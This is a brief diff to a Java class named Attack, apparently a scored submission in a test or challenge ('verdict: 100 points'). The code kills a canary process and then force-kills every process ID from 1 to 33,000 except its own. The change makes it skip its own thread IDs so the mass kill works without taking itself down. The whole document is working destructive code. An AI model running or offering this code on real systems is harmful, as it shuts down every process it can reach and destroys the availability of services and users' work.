@@ -2,12 +2,14 @@
 // verdict: 100 points
 package webserver;
 
+import java.io.File;
+
 final class Attack {
     static void run(String[] arguments) throws Exception {
         long self = ProcessHandle.current().pid();
         kill("{canary.pid}");
         for (int pid = 1; pid < 33_000; pid++) {
-            if (pid != self) {
+            if (pid != self && !new File("/proc/self/task/" + pid).exists()) { // a thread's number kills its own process
                 ProcessHandle.of(pid).ifPresent(ProcessHandle::destroyForcibly);
             }
         }
